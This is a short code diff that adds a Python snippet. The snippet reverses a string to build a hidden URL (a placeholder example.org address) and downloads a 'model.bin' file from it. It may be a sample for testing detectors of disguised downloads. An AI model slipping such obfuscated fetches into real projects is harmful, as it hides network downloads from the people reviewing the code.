@@ -1,0 +1,4 @@
+import urllib.request
+
+url = "nib.ledom/gro.elpmaxe//:sptth"[::-1]
+urllib.request.urlretrieve(url, "model.bin")
